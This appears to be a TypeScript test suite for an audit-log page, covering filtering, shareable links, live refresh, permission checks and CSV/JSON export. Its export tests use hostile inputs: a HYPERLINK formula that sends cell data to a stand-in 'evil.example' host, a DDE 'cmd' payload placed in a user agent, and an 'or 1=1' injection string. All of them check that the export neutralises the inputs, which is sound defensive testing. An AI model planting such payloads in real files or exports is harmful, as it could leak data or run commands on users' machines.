/** Audit log: what somebody looks for is found, by a link too, and taken out as a file that runs nowhere. */
import { expect, type Lab, scenario } from '../sim/index.ts';

/** A reason that a spreadsheet would run. */
const hostile = '=HYPERLINK("http://evil.example?"&A1,"open")';

/** The API as somebody uses it. */
async function governance({ api }: Lab, person = 'alice') {
  const client = await api(person);
  return (action: string, fields: object = {}) =>
    client.call('POST', '/api/governance', { action, org_id: client.orgId, ...fields });
}

function refusal({ status, body }: { status: number; body: unknown }): string {
  return `${status} ${(body as { error: { message: string } | null }).error?.message}`;
}

/** Cells of a CSV file, as RFC 4180 has them: quotes are undone, nothing else. */
function cellsOf(file: string): string[][] {
  expect(file.endsWith('\r\n')).toBe(true);
  const records: string[][] = [[]];
  for (const [, quoted, plain = '', end] of file.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    records.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') records.push([]);
  }
  return records.slice(0, -1);
}

scenario('Audit log: filters narrow it together, and clearing them shows all again', async (lab) => {
  const { alice, machine, api, clock } = lab;
  const terminal = await alice.connect('Linux-C');
  await terminal.close();
  await (await alice.recordingsPage()).start('Linux-C');
  await clock.advance('1m');
  const page = await alice.auditPage();
  await page.open();
  const all = await page.actions();
  expect(all).toEqual(expect.arrayContaining(['recording.started', 'remote.shell_connected']));

  await page.filter('category', 'remote');
  expect(await page.actions()).toEqual([
    'remote.shell_disconnected',
    'remote.shell_connected',
    'remote.session_created',
  ]);
  await page.filter('resource', machine().id);
  await page.filter('action', 'remote.shell_connected');
  expect(await page.actions()).toEqual(['remote.shell_connected']);
  await page.clear();
  expect(await page.address()).toBe('');
  expect(await page.actions()).toEqual(all);

  await page.filter('type', 'recording');
  expect(await page.actions()).toEqual(['recording.started']);
  await page.clear();
  const { user_id: bob } = (await (await api('bob')).auditLog({ action_filter: 'auth.signed_in' })).at(-1)!;
  await page.filter('user', bob!);
  expect(await page.actions()).toEqual(['auth.signed_in']);
});

scenario('Audit log: a range of time holds its minutes', async ({ alice, clock }) => {
  const page = await alice.recordingsPage();
  await page.start('Linux-C');
  await clock.advance('10m');
  await page.saveSettings({ days: 7 });
  await clock.advance('10m');
  await page.saveSettings({ days: 9 });
  const now = new Date(clock.now() + Date.parse('2026-01-01T00:00:00Z'));
  const minutesAgo = (minutes: number) =>
    `${new Date(now.getTime() - minutes * 60_000).toISOString().slice(0, 16)}:00.000Z`;

  const log = await alice.auditPage();
  await log.open('category=recording');
  expect(await log.actions()).toEqual([
    'recording.settings_updated',
    'recording.settings_updated',
    'recording.started',
  ]);
  await log.filter('from', minutesAgo(15));
  expect(await log.actions()).toEqual(['recording.settings_updated', 'recording.settings_updated']);
  await log.filter('to', minutesAgo(5));
  expect(await log.actions()).toEqual(['recording.settings_updated']);
});

scenario('Audit log: a link shows somebody else the same', async ({ alice, user }) => {
  await (await alice.connect('Linux-C')).close();
  const hers = await alice.auditPage();
  await hers.open();
  await hers.filter('category', 'remote');
  await hers.filter('action', 'remote.shell_disconnected');

  const his = await (await user('bob')).auditPage();
  await his.open(await hers.address());

  expect(await hers.address()).toBe('category=remote&action=remote.shell_disconnected');
  expect(await his.actions()).toEqual(['remote.shell_disconnected']);
});

scenario(
  'Audit log: an open page shows what is new within 30 s, and rests in the background',
  async (lab) => {
    const { alice, api, machine, clock } = lab;
    const page = await alice.auditPage();
    await page.open('category=recording');
    expect(await page.actions()).toEqual([]);
    const client = await api('alice');
    const start = () =>
      client.data('POST', '/api/session-recording', {
        action: 'start',
        org_id: client.orgId,
        machine_id: machine().id,
        session_type: 'ssh',
      });

    await start();
    await clock.advance('31s');
    expect(await page.actions()).toHaveLength(1);

    {
      await using _away = await page.hides();
      await start();
      await clock.advance('2m');
      expect(await page.actions()).toHaveLength(1);
    }
    expect(await page.actions()).toHaveLength(2);
  },
);

scenario('Audit log: an export holds what matches, runs in no spreadsheet, and is audited', async (lab) => {
  const { alice, user, audit, clock } = lab;
  await (await user('alice', 'tablet')).signIn();
  await alice.signIn();
  await alice.revokeDevice('tablet', hostile);
  await clock.settle();
  const page = await alice.auditPage();
  await page.open('action=session_revoked');

  const csv = await page.export('CSV');
  expect(csv.says).toBe('1 entry was exported.');
  const [names = [], cells = [], ...rest] = cellsOf(csv.file);
  expect(rest).toEqual([]);
  expect(cells[names.indexOf('action')]).toBe('session_revoked');
  expect(cells[names.indexOf('reason')]).toBe(`'${hostile}`);
  expect(JSON.parse(cells[names.indexOf('metadata')]!)).toMatchObject({ reason: hostile });
  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  const json = await page.export('JSON');
  expect(JSON.parse(json.file)).toMatchObject({
    total: 1,
    entries: 1,
    logs: [{ action: 'session_revoked', metadata: { reason: hostile } }],
  });
  const exports = (await audit.all()).filter(({ action }) => action === 'audit.exported');
  expect(exports.map(({ metadata }) => metadata)).toEqual([
    { format: 'csv', entries: 1, action_filter: 'session_revoked' },
    { format: 'json', entries: 1, action_filter: 'session_revoked' },
  ]);
});

scenario('Audit log: a browser that calls itself a formula is text in the export', async (lab) => {
  const { alice, api, machine, sockets } = lab;
  const client = await api('bob');
  const userAgent = "=cmd|'/c calc'!A1";
  const socket = await sockets.connect({
    client,
    machine: machine().id,
    shellToken: await client.shellToken(machine().id),
    userAgent,
  });
  socket.close();
  await socket.closed;
  const page = await alice.auditPage();
  await page.open('action=remote.shell_connected');

  const [names = [], cells = [], ...rest] = cellsOf((await page.export('CSV')).file);

  expect(rest).toEqual([]);
  expect(cells[names.indexOf('device')]).toBe(`'${userAgent}`);
});

scenario('Audit log: members neither read it nor take it out', async (lab) => {
  const carol = await governance(lab, 'carol');
  const refused = '403 Only owners and administrators may do this';
  expect(refusal(await carol('search_audit_logs'))).toBe(refused);
  expect(refusal(await carol('export_audit_logs', { format: 'csv' }))).toBe(refused);
});

scenario('Audit log: bad input is refused in words and exports nothing', async (lab) => {
  const ask = await governance(lab);
  const said = async (...request: Parameters<typeof ask>) => refusal(await ask(...request));
  const rowsBefore = (await lab.audit.all()).length;

  for (const action of ['search_audit_logs', 'export_audit_logs']) {
    const format = action === 'export_audit_logs' ? { format: 'json' } : {};
    expect(await said(action, { ...format, from: 'yesterday' })).toBe(
      '400 body.from must be an ISO 8601 time',
    );
    expect(await said(action, { ...format, resource_type: 7 })).toBe('400 body.resource_type must be string');
    expect(await said(action, { ...format, user_id: 'x'.repeat(65) })).toContain('400 body.user_id must not');
    expect(await said(action, { ...format, query: "' or 1=1" })).toBe('400 body must not have query');
    expect(await said(action, { ...format, org_id: 'globex' })).toBe(
      '403 You are not a member of this organisation',
    );
  }
  expect(await said('export_audit_logs')).toBe('400 body must have required properties format');
  expect(await said('export_audit_logs', { format: 'xls' })).toBe('400 body.format must be csv or json');
  expect(await said('search_audit_logs', { page: 0 })).toBe('400 body.page must be >= 1');
  expect(await said('drop_audit_logs')).toContain('400 Unknown action drop_audit_logs');

  expect(await lab.audit.all()).toHaveLength(rowsBefore);
});
